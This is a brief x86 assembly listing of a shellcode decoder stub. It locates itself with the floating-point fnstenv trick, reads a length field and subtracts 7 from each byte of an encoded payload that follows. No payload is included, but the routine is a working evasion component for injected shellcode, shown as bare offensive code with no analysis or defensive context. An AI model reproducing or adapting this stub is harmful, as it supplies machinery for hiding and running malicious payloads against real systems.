; Decoder: every byte minus 7; finds itself by the floating-point unit's last instruction.
bits 32
        jmp short start
length: dw 0
start:  fldz
        fnstenv [esp - 12]
        pop ebx
        movzx ecx, word [ebx - 2]
        lea esi, [ebx + payload - start]
again:  sub byte [esi], 7
        inc esi
        loop again
payload:
